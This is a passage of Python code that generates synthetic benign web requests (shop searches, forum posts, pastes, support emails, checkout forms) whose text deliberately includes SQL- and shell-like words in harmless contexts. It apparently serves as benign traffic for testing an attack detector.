CSV_NOTES = ["", "", "discontinued after Q1", "see email from O'Hara 3/12", "price incl. VAT", "DO NOT reorder",
             "update photo", "ships from EU warehouse", "=SUM not allowed here, plain numbers only", "select for homepage"]


def csv_field(v: str) -> str:
    return '"' + v.replace('"', '""') + '"' if any(c in v for c in ',"\n') else v


def csv_products(rng) -> str:
    rows = ["sku,name,price,currency,stock,notes"]
    for _ in range(rng.randint(4, 20)):
        rows.append(",".join(csv_field(x) for x in [f"SKU-{rng.randint(1000, 9999)}", rng.choice(CSV_PRODUCTS),
                                                     f"{rng.randint(3, 400)}.{rng.randint(0, 99):02d}", rng.choice(["EUR", "GBP"]),
                                                     str(rng.randint(0, 500)), rng.choice(CSV_NOTES)]))
    return "\r\n".join(rows) + "\r\n"


def csv_contacts(rng) -> str:
    sep = rng.choice([",", ";"])
    rows = [sep.join(["first_name", "last_name", "email", "phone", "city", "country"])]
    for _ in range(rng.randint(3, 15)):
        full = rng.choice(NAMES).split(" ", 1)
        a = rng.choice(ADDRESSES)
        vals = [full[0], full[1] if len(full) > 1 else "", rng.choice(EMAILS), rng.choice(PHONES), a[2], a[5]]
        rows.append(sep.join(('"' + v.replace('"', '""') + '"') if (sep in v or '"' in v) else v for v in vals))
    return "\n".join(rows) + "\n"


def csv_bank(rng) -> str:
    payees = ["TESCO STORES 2231", "AMZN Mktp UK*1X2Y3", "O'BRIEN'S SANDWICH BAR", "TFL TRAVEL CH", "SELECT & SAVE LTD",
              "UNION COFFEE ROASTERS", "PAYPAL *STEAM GAMES", "DD - COUNCIL TAX", "SO - RENT FLAT 2/1", "REFUND - SHOP.EXAMPLE"]
    rows = ["Date,Description,Amount,Balance"]
    bal = rng.randint(200, 5000)
    for d in range(rng.randint(5, 18)):
        amt = round(rng.uniform(-120, 40), 2)
        bal = round(bal + amt, 2)
        rows.append(f"2026-11-{d + 1:02d},{csv_field(rng.choice(payees))},{amt:.2f},{bal:.2f}")
    return "\n".join(rows) + "\n"


def csv_timesheet(rng) -> str:
    tasks = ["Fix SELECT in report query", "Review PR: drop legacy tables", "On-call: disk full on web-03",
             "Write runbook for `rm -rf` incident", "Meeting: union of the two search indexes", "Support ticket #30119",
             "Update nginx config (proxy_pass)", "Pair with Wei on the cron script"]
    rows = ["date\tperson\thours\ttask"]
    for _ in range(rng.randint(4, 12)):
        rows.append(f"2026-12-{rng.randint(1, 5):02d}\t{rng.choice(NAMES)}\t{rng.choice([0.5, 1, 1.5, 2, 3, 4])}\t{rng.choice(tasks)}")
    return "\n".join(rows) + "\n"


TEXT_UPLOADS = [
    ("notes.txt", "text/plain", "Notes from the call with the supplier (3 Dec)\n\n- they can drop the price 5% above 500 units\n- lead time 6-8 weeks; select colours need 10\n- samples: send to Union St office, attn. Wei Ping\n- follow up Friday\n"),
    ("README.txt", "text/plain", "INSTALL\n=======\n\n1. Unzip into C:\\Program Files\\LabelPrinter\\\n2. Run setup.exe as administrator\n3. If Windows asks, allow the driver (it's signed)\n\nUNINSTALL: Control Panel > Programs > Remove.\n"),
    ("schema.sql", "application/sql", "-- schema for the tiny bookings app (attached to support ticket)\nCREATE TABLE rooms (id serial PRIMARY KEY, name text NOT NULL);\nCREATE TABLE bookings (\n  id serial PRIMARY KEY,\n  room_id int REFERENCES rooms(id) ON DELETE CASCADE,\n  starts_at timestamptz NOT NULL,\n  ends_at timestamptz NOT NULL CHECK (ends_at > starts_at)\n);\nCREATE INDEX ON bookings (room_id, starts_at);\n"),
    ("install.log", "text/plain", "[12:01:03] Checking prerequisites... ok\n[12:01:04] Extracting files to /opt/labelprinter ... ok\n[12:01:09] Running post-install script: /opt/labelprinter/bin/postinst.sh\n[12:01:09] + chown -R lp:lp /opt/labelprinter\n[12:01:09] + systemctl enable --now labelprinter\n[12:01:10] Failed to enable unit: Unit file labelprinter.service does not exist.\n[12:01:10] post-install script exited with code 1\n"),
    (".env.example", "text/plain", "# copy to .env and fill in\nDATABASE_URL=postgres://shop:shop@localhost:5432/shop\nREDIS_URL=redis://localhost:6379/0\nSECRET_KEY=change-me\nALLOWED_HOSTS=localhost,127.0.0.1\nMAIL_FROM=\"Shop Support <support@shop.example>\"\n"),
    ("crontab.txt", "text/plain", "# m h dom mon dow command\n*/5 * * * * /usr/local/bin/sync-stock >> /var/log/sync-stock.log 2>&1\n0 3 * * * /usr/local/bin/pg_backup.sh\n30 6 * * 1-5 cd /srv/reports && ./send_daily.sh --to ops@example.com\n"),
    ("letter.txt", "text/plain; charset=utf-8", "Dear Ms O'Sullivan,\n\nFurther to our conversation, I enclose the signed delivery note. The table arrived with a scratch on the top (see photo 2); the drawer runners are fine.\n\nI would accept a partial refund of €80 rather than a replacement.\n\nYours sincerely,\nMaëlle L'Hôpital\n"),
    ("poem.md", "text/markdown", "# Ode to the Backup\n\nAt three a.m. the cron job wakes,\nit `pg_dump`s whatever it takes;\nit finds the old ones, `-mtime +14`,\nand drops them where no eye has been.\n"),
    ("packing-list.txt", "text/plain", "Camping, Sat-Sun\n\n[ ] tent + pegs\n[ ] 2x sleeping bags\n[ ] stove & gas (check it's not empty!!)\n[ ] head torches (batteries > 50%)\n[ ] \"emergency\" chocolate\n"),
    ("query.sql", "text/plain", "-- the report query finance asked about; it double counts refunds\nSELECT c.name, SUM(o.total) - COALESCE(SUM(r.amount), 0) AS net\nFROM customers c\nJOIN orders o ON o.customer_id = c.id\nLEFT JOIN refunds r ON r.order_id = o.id\nGROUP BY c.name\nORDER BY net DESC;\n"),
    ("minutes_ga.txt", "text/plain; charset=utf-8", "Miontuairiscí an chruinnithe\n\nI láthair: Siobhán, Tomás, Aroha\n1. Buiséad 2027: glactha.\n2. Suíomh gréasáin nua: Seán le dréacht a sheoladh faoin Aoine.\n"),
    ("errors.txt", "text/plain", "Copied from the browser console:\n\nGET https://shop.example/api/cart 500 (Internal Server Error)\nUncaught (in promise) SyntaxError: Unexpected token '<', \"<!DOCTYPE \"... is not valid JSON\n    at checkout.min.js:1:20331\n"),
    ("hosts-change.txt", "text/plain", "Change request CR-2211\n\nAdd to /etc/hosts on build agents (temporary, until DNS is fixed):\n\n10.0.1.11   api-internal.example.lan\n10.0.1.12   api-internal-2.example.lan\n\nRollback: remove the two lines.\n"),
    ("translation.po", "text/x-gettext-translation", "msgid \"Select a delivery slot\"\nmsgstr \"Sélectionnez un créneau de livraison\"\n\nmsgid \"Drop-off point\"\nmsgstr \"Point relais\"\n\nmsgid \"You have %d items in your basket\"\nmsgstr \"Vous avez %d articles dans votre panier\"\n"),
]


# --------------------------------------------------------------------------
# More written texts used by the builders below
# --------------------------------------------------------------------------

DELIVERY_NOTES = [
    "", "", "", "Leave with neighbour at #14 if nobody's in", "Ring twice, the bell's broken, so knock!", "Gate code 4#21*",
    "Please DON'T leave it in the porch", "Side door (the one with the 'No Junk Mail' sign)", "Back entrance via the lane; dog is friendly :)",
    "Reception closes at 17:00 – after that use the parcel locker", "Call on arrival: +353 87 123 4567", "配達前にお電話ください",
    "3rd floor, no lift, sorry!", "Leave in the blue bin shed (not the green one)",
]

COMMIT_MESSAGES = [
    "fix(search): escape quotes in LIKE patterns so O'Brien matches",
    "chore: drop unused users_old table",
    "feat(events): select seats by row in the seat picker",
    "Revert \"build: rm -rf dist before every build\"",
    "docs: explain UNION vs UNION ALL in the reporting guide",
    "ci: run `make test` on every pull request",
    "refactor: replace os.system call with subprocess.run([...], check=True)",
    "fix: escape <, > and & in product descriptions on output",
    "feat(api): add ?sort=price:asc|price:desc to /v2/search",
    "Merge branch 'main' into feature/drop-legacy-export",
    "perf: add index on orders (customer_id, created_at)",
    "fix(ci): quote ${{ matrix.python }} so 3.10 isn't read as 3.1",
    "build(deps): bump express from 4.21.1 to 4.21.2",
    "test: cover names with apostrophes and hyphens (D'Arcy-Smythe)",
]

SMS_TEXTS = ["STOP", "Yes please deliver tmrw", "Where's my order?? #51877 👀", "Can u leave it with no. 14", "Reschedule to Sat pls, 10-12 if poss"]

TRACKING_MESSAGES = [
    ("pre_transit", "Shipping label created, awaiting item"), ("in_transit", "Arrived at regional facility – DUBLIN HUB"),
    ("in_transit", "Departed facility; in transit to next facility"), ("out_for_delivery", "Out for delivery"),
    ("delivered", "Delivered, left in a safe place (porch)"), ("delivered", "Delivered to neighbour at #14"),
    ("available_for_pickup", "Available for pick-up at Parcel Point: O'Connell's Newsagents"), ("return_to_sender", "Addressee moved; returning to sender"),
    ("failure", "Delivery attempted – no safe place; card left"), ("in_transit", "Customs clearance completed (Zoll: freigegeben)"),
]

SLASH_COMMANDS = [("/deploy", "api@4.2.1 to staging"), ("/incident", "checkout errors spiking, see #ops"),
                  ("/poll", "\"Lunch?\" \"Pizza\" \"Sushi\" \"Drop it, we're busy\""), ("/remind", "me to drop the old index on Friday at 10am")]

PAGE_PATHS = [
    "/", "/c/furniture/tables?sort=price_asc&page=2", "/p/oak-dining-table-180x90", "/p/union-jack-cushion-cover?colour=navy",
    "/c/kitchen/mugs?material=ceramic&material=stoneware&price=10-25", "/help/returns#how-long", "/stores/union-square",
    "/account/orders/51877?tab=tracking", "/gift-guide/2026/under-25", "/search?q=select+comfort&page=3",
    "/blog/2026/12/why-we-picked-postgres", "/blog/tag/sql", "/cart", "/wishlist?share=eyJ1IjoxMjM0NX0",
]
QA_PATHS = [
    "/questions/78211/union-removes-rows-i-expected-to-keep", "/questions/tagged/bash+loops?tab=votes",
    "/questions/79002/create-index-concurrently-cannot-run-inside-a-transaction-block/79010#79010",
    "/users/4412/siobhan-obrien?tab=answers&sort=votes", "/tags/postgresql/info", "/questions?tab=unanswered&pagesize=50",
    "/a/79120/1844", "/review/first-posts/88213",
]
ASSET_PATHS = [("/static/js/app.8c1f2e4b.js", 5), ("/static/css/main.51d0a7.css", 1), ("/media/products/mug-031.webp", 0),
               ("/fonts/inter-var.woff2", 4), ("/api/v2/cart/count", 2), ("/sse/notifications?since=1764890000", 8)]


def search_referer(rng) -> str:
    text = rng.pick(REFERER_QUERIES)
    return rng.choice([
        f"https://www.google.com/search?q={qp(text)}&sca_esv={rng.randbytes(8).hex()}&source=hp&ei={b64url(rng.randbytes(15))}&oq={qp(text[:8])}&sclient=gws-wiz",
        f"https://www.bing.com/search?q={qp(text)}&form=QBLH&sp=-1&ghc=1&pq={qp(text[:10])}&sc=10-{len(text)}&qs=n&cvid={rng.randbytes(16).hex().upper()}",
        f"https://duckduckgo.com/?q={qp(text)}&t=h_&ia=web",
        f"https://www.ecosia.org/search?method=index&q={q(text, safe='')}",
        f"https://search.brave.com/search?q={qp(text)}&source=web",
        f"https://www.google.ie/url?sa=t&rct=j&q=&esrc=s&source=web&cd=&ved=2ahUKEw{b64url(rng.randbytes(20))}&url=https%3A%2F%2Fshop.example%2F&usg=AOvVaw{b64url(rng.randbytes(15))}",
    ])


def first_last(name):
    parts = name.split(" ")
    if len(parts) == 1:
        return name, ""
    if "," in name:
        return name, ""
    return parts[0], " ".join(parts[1:])


def address_doc(rng):
    line1, line2, city, region, postcode, country = rng.pick(ADDRESSES)
    first, last = first_last(rng.pick(NAMES))
    doc = {"firstName": first, "lastName": last, "line1": line1, "city": city, "postcode": postcode, "country": country,
           "phone": rng.choice(PHONES)}
    if line2:
        doc["line2"] = line2
    if region:
        doc["region"] = region
    return doc


def fenced(entry, style=None) -> str:
    code = code_text(entry)
    if style == "indent":
        return "\n".join("    " + l if l else "" for l in code.split("\n"))
    if style == "tilde":
        return f"~~~{entry[0]}\n{code}\n~~~"
    return f"```{entry[0]}\n{code}\n```"


def question_markdown(rng, entry) -> str:
    parts = [rng.pick(QA_INTROS), fenced(entry, rng.choice([None, None, None, "indent", "tilde"]))]
    if rng.random() < 0.3:
        parts.append(rng.choice(["Edit: added the exact versions in a comment below.", "Tried on both macOS 14 and Debian 12.",
                                 "Running it with `--verbose` prints nothing extra.", "Edit: fixed the indentation in the snippet."]))
    parts.append(rng.pick(QA_CLOSINGS))
    return "\n\n".join(parts)


# what an answer shows is code, not a log or a stack trace
ANSWER_CODE = [c for c in CODE if c[1] not in ("text", "log", "pytb", "console", "json")]


def answer_markdown(rng) -> str:
    entry = rng.pick(ANSWER_CODE)
    parts = [rng.pick(ANSWER_INTROS), fenced(entry)]
    if rng.random() < 0.4:
        parts.append(rng.choice(["The key line is the one with the comment.", "Note the quoting: single quotes outside, double inside.",
                                 "Run it once with a `LIMIT 10` first to check the output.", "Everything else stays as you had it."]))
    parts.append(rng.pick(ANSWER_CLOSINGS))
    return "\n\n".join(parts)


def paste_gql_vars(rng):
    entry = rng.pick(CODE)
    return {"input": {"title": entry[2], "syntax": entry[1], "content": code_text(entry), "expiresIn": rng.choice(["ONE_HOUR", "ONE_DAY", "ONE_WEEK", "NEVER"]),
                      "visibility": rng.choice(["PUBLIC", "UNLISTED", "PRIVATE"])}}


# --------------------------------------------------------------------------
# Benign request builders, one per kind
# --------------------------------------------------------------------------

def b_page(rng):
    style = rng.randint(0, 5)
    if style <= 2:
        path = rng.choice(PAGE_PATHS)
        host, site = SHOP_HOST, "shop"
    elif style <= 4:
        path = rng.choice(QA_PATHS)
        host, site = QA_HOST, "qa"
    else:
        path, kind = rng.choice(ASSET_PATHS)
        h = browser(rng, SHOP_HOST, accept=ACCEPT_OTHER[kind] if kind < len(ACCEPT_OTHER) else "*/*",
                    referer=f"https://{SHOP_HOST}{rng.choice(PAGE_PATHS)}", fetch="no-cors")
        return g.request("GET", path, h)
    ref = search_referer(rng) if rng.random() < 0.75 else f"https://{host}{rng.choice(PAGE_PATHS if site == 'shop' else QA_PATHS)}"
    h = browser(rng, host, referer=ref, site=site)
    if rng.random() < 0.3:
        h.append(["If-Modified-Since", "Wed, 03 Dec 2026 %02d:%02d:00 GMT" % (rng.randint(0, 23), rng.randint(0, 59))])
    return g.request("GET", path, h)


def b_shop_search(rng):
    text = rng.pick(SHOP_SEARCHES)
    style = rng.randint(0, 3)
    if style == 0:
        h = xhr(rng, SHOP_HOST, referer_path="/")
        return g.request("GET", f"/api/suggest?q={q(text, safe='')}&limit=8&locale=en-GB", h)
    extra = rng.choice(["", "&sort=relevance", "&sort=price%3Aasc&in_stock=1", "&category=home-garden&page=2",
                        "&price_min=0&price_max=50&brand=O%27Neill", "&view=grid&per_page=48"])
    ref = search_referer(rng) if rng.random() < 0.3 else f"https://{SHOP_HOST}/"
    h = browser(rng, SHOP_HOST, referer=ref)
    if style == 3:
        return g.request("GET", f"/search?q={qp(text)}{extra}", h)
    return g.request("GET", f"/search?q={q(text, safe='')}{extra}", h)


def b_qa_search(rng):
    text = rng.pick(QA_SEARCHES)
    if rng.random() < 0.3:
        text = rng.choice(["[sql] ", "[bash] ", "[postgresql] is:question ", "is:answer score:3 ", "[regex] closed:no "]) + text
    h = browser(rng, QA_HOST, referer=f"https://{QA_HOST}{rng.choice(QA_PATHS)}", site="qa")
    return g.request("GET", f"/search?q={qp(text)}&tab={rng.choice(['relevance', 'newest', 'votes'])}", h)


def b_qa_question(rng):
    entry = rng.pick(CODE)
    h = browser(rng, QA_HOST, referer=f"https://{QA_HOST}/questions/ask", site="qa", fetch="navigate")
    h.append(["Origin", f"https://{QA_HOST}"])
    fields = [("fkey", rng.randbytes(16).hex()), ("title", entry[3]), ("post-text", question_markdown(rng, entry)),
              ("tagnames", entry[4]), ("post-type", "question"), ("is-draft", "false")]
    if rng.random() < 0.4:
        fields.append(("notify-on-answer", "on"))
    return post_form("POST", "/questions/ask/submit", h, fields)


def b_qa_answer(rng):
    h = xhr(rng, QA_HOST, site="qa", referer_path=rng.choice(QA_PATHS))
    qid = rng.randint(70000, 79999)
    doc = {"question_id": qid, "body_markdown": answer_markdown(rng), "draft_id": uuid(rng),
           "client_revision": rng.randint(1, 9), "notify": rng.random() < 0.5}
    return post_json("POST", f"/api/questions/{qid}/answers", h, doc)


def b_paste(rng):
    entry = rng.pick(CODE)
    h = browser(rng, PASTE_HOST, referer=f"https://{PASTE_HOST}/", site="paste")
    h.append(["Origin", f"https://{PASTE_HOST}"])
    title = entry[2] if rng.random() < 0.7 else rng.choice(PASTE_TITLES_EXTRA)
    parts = [("csrf_token", b64url(rng.randbytes(24))), ("title", title), ("syntax", entry[1]),
             ("expiry", rng.choice(["10m", "1h", "1d", "1w", "never", "burn"])), ("visibility", rng.choice(["public", "unlisted", "private"]))]
    if rng.random() < 0.35:
        parts.append(("file", entry[2].split("/")[-1], rng.choice(["application/octet-stream", "text/plain", "text/x-" + entry[1]]), code_text(entry)))
        parts.append(("content", ""))
    else:
        parts.append(("content", code_text(entry).replace("\n", "\r\n") if rng.random() < 0.5 else code_text(entry)))
    return post_multipart(rng, "/paste", h, parts)


def b_paste_api(rng):
    entry = rng.pick(CODE)
    if rng.random() < 0.6:
        h = api(rng, host=PASTE_HOST, ua=rng.choice(["pastectl/1.4.0", "curl/8.11.0", "vscode-paste/0.9.2", "python-requests/2.32.3"]))
        doc = {"title": entry[3] if rng.random() < 0.5 else entry[2], "public": rng.random() < 0.3,
               "expires_in": rng.choice(["1h", "1d", "1w", None]),
               "files": [{"name": entry[2], "language": entry[1], "content": code_text(entry)}]}
        if rng.random() < 0.3:
            doc["files"].append({"name": "NOTES.md", "language": "markdown", "content": rng.pick(QA_CLOSINGS)})
        return post_json("POST", "/api/v1/pastes", h, doc)
    h = [["Host", PASTE_HOST], ["User-Agent", "curl/8.11.0"], ["Accept", "*/*"],
         ["Authorization", "Token " + b64url(rng.randbytes(30))]]
    ctype = rng.choice(["text/plain; charset=utf-8", "application/octet-stream", "text/plain"])
    return g.request("PUT", f"/api/v1/pastes/raw?name={q(entry[2], safe='')}&syntax={entry[1]}&expire=1d", h + [["Content-Type", ctype]], code_text(entry) + "\n")


def email_bodies(rng):
    subject, core = rng.pick(EMAIL_CORES)
    sig = rng.pick(EMAIL_SIGNATURES)
    sender = rng.pick(NAMES)
    first = sender.split(" ")[0]
    text = core + "\n\n" + sig
    html_core = "".join(f"<div>{xml_escape_html(p) or '<br>'}</div>" for p in (core + "\n\n" + sig).split("\n"))
    style = rng.randint(0, 2)
    if style == 0:
        reply = rng.choice(SUPPORT_REPLIES).format(first=first)
        when = "On %s, %d Dec 2026 at %02d:%02d, Shop Support <support@shop.example> wrote:" % (
            rng.choice(["Mon", "Tue", "Wed", "Thu", "Fri"]), rng.randint(1, 5), rng.randint(8, 18), rng.randint(0, 59))
        text += "\n\n" + when + "\n" + "\n".join("> " + l if l else ">" for l in reply.split("\n"))
        html_core += (f'<br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">{xml_escape_html(when)}<br></div>'
                      f'<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">'
                      + "<br>".join(xml_escape_html(l) for l in reply.split("\n")) + "</blockquote></div>")
    elif style == 1:
        fwd = ("---------- Forwarded message ---------\nFrom: Parcel Updates <no-reply@parcels.example>\n"
               "Date: Thu, 4 Dec 2026 at 07:12\nSubject: Your delivery is delayed\nTo: <%s>\n\n"
               "Your parcel JD0146000038921 is held at the depot. Reason: 'Address incomplete'.\n"
               "Reply STOP to unsubscribe from SMS updates." % rng.choice(EMAILS))
        text += "\n\n" + fwd
        html_core += '<br><div class="gmail_quote">' + "<br>".join(xml_escape_html(l) for l in fwd.split("\n")) + "</div>"
    html = f'<div dir="ltr">{html_core}</div>'
    return subject, sender, text, html


def xml_escape_html(s: str) -> str:
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def b_support_email(rng):
    subject, sender, text, html = email_bodies(rng)
    addr = rng.choice(EMAILS)
    msgid = f"<{b64url(rng.randbytes(18))}@mail.{rng.choice(['example.com', 'example.ie', 'example.jp'])}>"
    secret = rng.randbytes(32)
    if rng.random() < 0.5:
        doc = {"FromName": sender, "From": addr, "FromFull": {"Email": addr, "Name": sender, "MailboxHash": ""},
               "To": "support@help.shop.example", "Subject": subject, "MessageID": uuid(rng),
               "Date": "Thu, 4 Dec 2026 %02d:%02d:%02d +0000" % (rng.randint(0, 23), rng.randint(0, 59), rng.randint(0, 59)),
               "TextBody": text, "HtmlBody": html, "StrippedTextReply": text.split("\n\nOn ")[0],
               "Headers": [{"Name": "Message-ID", "Value": msgid},
                           {"Name": "In-Reply-To", "Value": f"<ticket-{rng.randint(30000, 39999)}@help.shop.example>"},
                           {"Name": "Received-SPF", "Value": "pass (example.com: domain of " + addr + " designates 198.51.100.25 as permitted sender)"},
                           {"Name": "Authentication-Results", "Value": "mx.help.shop.example; dkim=pass header.d=example.com; spf=pass; dmarc=pass"},
                           {"Name": "X-Spam-Score", "Value": "%.1f" % rng.uniform(-2, 3)}],
               "Attachments": [] if rng.random() < 0.6 else [{"Name": "IMG_2041.jpeg", "ContentType": "image/jpeg",
                                                                "Content": b64(image_bytes(rng, "jpeg", rng.randint(200, 3000))), "ContentLength": 0}]}
        body = json.dumps(doc, ensure_ascii=False)
        h = [["Host", HELP_HOST], ["User-Agent", "Postmark"], ["Accept", "*/*"], ["Content-Type", "application/json"],
             ["X-Inbound-Signature", b64(hmac.new(secret, body.encode(), hashlib.sha256).digest())]]
        return g.request("POST", "/hooks/inbound-mail", h, body)
    ts = str(epoch(rng))
    token = rng.randbytes(25).hex()
    parts = [("timestamp", ts), ("token", token), ("signature", sign(secret, ts + token)),
             ("sender", addr), ("from", f"{sender} <{addr}>"), ("recipient", "support@help.shop.example"), ("subject", subject),
             ("body-plain", text), ("stripped-text", text.split("\n\n")[0]), ("body-html", html),
             ("Message-Id", msgid), ("message-headers", json.dumps([["Subject", subject], ["From", f"{sender} <{addr}>"],
                                                                    ["Content-Type", "multipart/alternative; boundary=\"000000000000a1b2c3\""]], ensure_ascii=False))]
    h = [["Host", HELP_HOST], ["User-Agent", "mailgun/treq-21.5.0"], ["Accept", "*/*"]]
    return post_multipart(rng, "/hooks/mailgun", h, parts)


def b_support_form(rng):
    name = rng.pick(NAMES)
    h = browser(rng, HELP_HOST, referer=f"https://{HELP_HOST}/contact?topic={rng.choice(['orders', 'billing', 'technical', 'other'])}")
    h.append(["Origin", f"https://{HELP_HOST}"])
    fields = [("csrfmiddlewaretoken", b64url(rng.randbytes(48))), ("name", name), ("email", rng.choice(EMAILS)),
              ("order_number", rng.choice(["", "", f"#{rng.randint(40000, 69999)}", f"W{rng.randint(10**7, 10**8)}"])),
              ("topic", rng.choice(["Order", "Billing", "Technical problem", "Other"])), ("message", rng.pick(SUPPORT_FORM_TEXTS)),
              ("consent", "on"), ("g-recaptcha-response", b64url(rng.randbytes(rng.randint(300, 500))))]
    return post_form("POST", "/contact", h, fields)


def b_review(rng):
    text = rng.pick(REVIEWS)
    h = xhr(rng, SHOP_HOST, referer_path=f"/p/{rng.choice(['oak-dining-table-180x90', 'mug-031', 'kettle-17-stainless', 'hiking-boots-w'])}")
    sku = f"SKU-{rng.randint(1000, 9999)}"
    doc = {"rating": rng.randint(1, 5), "title": rng.choice(["Great", "Meh", "Love it!", "Not for me", "Solid buy", "Read before buying",
                                                            ":)", "★★★★☆", "Does the job", "Wow."]),
           "body": text, "author": {"displayName": rng.choice([rng.pick(NAMES), "Anonymous", "verified buyer"]), "location": rng.choice(["Cork", "", "Kraków", "東京"])},
           "recommend": rng.random() < 0.7, "verifiedPurchase": True, "orderId": f"W{rng.randint(10**7, 10**8)}",
           "photos": [] if rng.random() < 0.8 else [{"uploadId": uuid(rng)}], "locale": rng.choice(["en-GB", "fr-FR", "de-DE", "ja-JP", "pt-BR"])}
    return post_json("POST", f"/api/v2/products/{sku}/reviews", h, doc)


def b_address(rng):
    line1, line2, city, region, postcode, country = rng.pick(ADDRESSES)
    first, last = first_last(rng.pick(NAMES))
    h = browser(rng, SHOP_HOST, referer=f"https://{SHOP_HOST}/checkout/address")
    h.append(["Origin", f"https://{SHOP_HOST}"])
    fields = [("_token", b64url(rng.randbytes(30))), ("shipping[first_name]", first), ("shipping[last_name]", last),
              ("shipping[company]", rng.choice(["", "", "O'Hara & Partners Ltd", "Müller & Söhne GmbH", "Smith, Jones & Co."])),
              ("shipping[line1]", line1), ("shipping[line2]", line2), ("shipping[city]", city), ("shipping[region]", region),
              ("shipping[postcode]", postcode), ("shipping[country]", country), ("shipping[phone]", rng.choice(PHONES)),
              ("email", rng.choice(EMAILS)), ("delivery_instructions", rng.pick(DELIVERY_NOTES)),
              ("billing_same", rng.choice(["1", "0"])), ("save_address", "on")]
    return post_form("POST", "/checkout/address", h, [(k, v) for k, v in fields])


def b_profile(rng):
    h = xhr(rng, QA_HOST, site="qa", referer_path="/users/edit/current")
    doc = {"display_name": rng.pick(NAMES), "bio": rng.pick(BIOS),
           "location": rng.choice(["Dublin, Ireland", "Kraków", "São Paulo, SP", "東京", "Lagos", "Wellington, NZ", ""]),
           "website": rng.choice(["https://blog.example.dev/", "https://example.ie/~sean/", "", "https://github.com/example-user"]),
           "pronouns": rng.choice(["she/her", "he/him", "they/them", ""]),
           "links": {"github": rng.choice(["ana-obrien", "lukasz-w", ""]), "mastodon": rng.choice(["@sean@fosstodon.example", ""])},
           "email_settings": {"digest": rng.choice(["daily", "weekly", "never"]), "answers": True}}
    return post_json("PATCH", "/api/users/me/profile", h, doc)


def b_cms_html(rng):
    title, html = rng.pick(CMS_HTML)
    slug = "-".join("".join(c for c in title.lower() if c.isalnum() or c == " ").split())
    if rng.random() < 0.5:
        h = browser(rng, CMS_HOST, referer=f"https://{CMS_HOST}/admin/pages/{rng.randint(10, 400)}/edit", site="cms")
        h.append(["Origin", f"https://{CMS_HOST}"])
        fields = [("csrfmiddlewaretoken", b64url(rng.randbytes(48))), ("title", title), ("slug", slug), ("body", html),
                  ("seo_title", title + " | Shop"), ("search_description", title + ". " + rng.choice(["Read more.", "Updated for 2026.", ""])),
                  ("status", rng.choice(["draft", "published"])), ("action-publish", "action-publish")]
        return post_form("POST", f"/admin/pages/{rng.randint(10, 400)}/edit/", h, fields)
    h = xhr(rng, CMS_HOST, site="cms", referer_path="/editor")
    doc = {"data": {"type": "pages", "id": str(rng.randint(10, 400)),
                    "attributes": {"title": title, "slug": slug, "content": {"format": "html", "value": html},
                                   "updatedAt": iso(rng), "locale": "en-GB"}}}
    return post_json("PATCH", f"/api/pages/{doc['data']['id']}", h, doc, ctype="application/vnd.api+json")


def b_cms_markdown(rng):
    title, md = rng.pick(MARKDOWN_DOCS)
    if rng.random() < 0.6:
        h = xhr(rng, CMS_HOST, site="cms", referer_path="/wiki/edit")
        doc = {"title": title, "markdown": md, "commit_message": rng.choice(["typo", "update", "Add table", "clarify step 3", "WIP"]),
               "base_revision": rng.randbytes(20).hex(), "tags": rng.sample(["docs", "howto", "internal", "api", "ops"], 2)}
        return post_json("PUT", f"/api/wiki/pages/{q(title.lower().replace(' ', '-'), safe='')}", h, doc)
    h = browser(rng, QA_HOST, referer=f"https://{QA_HOST}/posts/{rng.randint(1000, 9999)}/edit", site="qa")
    fields = [("fkey", rng.randbytes(16).hex()), ("title", title), ("post-text", md), ("edit-comment", "formatting")]
    return post_form("POST", f"/posts/{rng.randint(1000, 9999)}/edit-submit/{rng.randbytes(8).hex()}", h, fields)


def b_json_api(rng):
    style = rng.randint(0, 7)
    h = api(rng)
    if style == 0:
        addr = address_doc(rng)
        doc = {"customerId": f"cus_{b64url(rng.randbytes(10))}", "currency": rng.choice(["EUR", "GBP"]),
               "lines": [{"sku": f"SKU-{rng.randint(1000, 9999)}", "qty": rng.randint(1, 4), "unitPrice": {"amount": rng.randint(300, 40000), "scale": 2}}
                         for _ in range(rng.randint(1, 4))],
               "shippingAddress": addr, "giftMessage": rng.choice(["", "Happy birthday Nan <3 love from all of us x", "Merry Xmas & a happy new year!",
                                                                   "Don't open 'til the 25th!!"]),
               "placedAt": iso(rng), "metadata": {"source": "web", "campaign": "xmas-2026", "ab": "checkout:b"}}
        return post_json("POST", "/v2/orders", h, doc)
    if style == 1:
        doc = [{"op": "replace", "path": "/quantity", "value": rng.randint(0, 50)},
               {"op": "add", "path": "/tags/-", "value": rng.choice(["clearance", "select", "union-jack", "new"])},
               {"op": "remove", "path": "/discount"}]
        return post_json("PATCH", f"/v2/inventory/SKU-{rng.randint(1000, 9999)}", h, doc, ctype="application/json-patch+json")
    if style == 2:
        doc = {"events": [{"type": rng.choice(["page_view", "add_to_cart", "search"]), "ts": iso(rng),
                           "url": f"https://{SHOP_HOST}{rng.choice(PAGE_PATHS)}", "referrer": search_referer(rng),
                           "props": {"q": rng.pick(SHOP_SEARCHES)} } for _ in range(rng.randint(1, 4))],
               "anonymousId": uuid(rng), "context": {"locale": rng.choice(["en-IE", "de-DE"]), "screen": {"w": 1440, "h": 900}}}
        return post_json("POST", "/v1/batch", h, doc)
    if style == 3:
        doc = {"title": rng.choice(["Standup", "1:1 Siobhán / Wei", "Drop-in clinic", "Union meeting", "Select committee prep"]),
               "start": iso(rng), "end": iso(rng), "attendees": [{"email": e} for e in rng.sample(EMAILS, 3)],
               "recurrence": ["RRULE:FREQ=WEEKLY;BYDAY=MO,WE,FR;UNTIL=20270131T000000Z"], "location": rng.choice(["Room 2.14", "https://meet.example/abc-defg-hij", ""]),
               "reminders": {"useDefault": False, "overrides": [{"method": "popup", "minutes": 10}]}}
        return post_json("POST", "/v1/calendars/primary/events", h, doc)
    if style == 4:
        doc = {"notifications": {"email": {"orders": True, "marketing": False}, "sms": {"delivery": True}},
               "language": rng.choice(["en-GB", "ga-IE", "fr-CA"]), "currency": "EUR", "theme": "system",
               "savedSearches": [rng.pick(SHOP_SEARCHES) for _ in range(2)], "updatedAt": iso(rng)}
        return post_json("PUT", "/v2/me/preferences", h, doc)
    if style == 5:
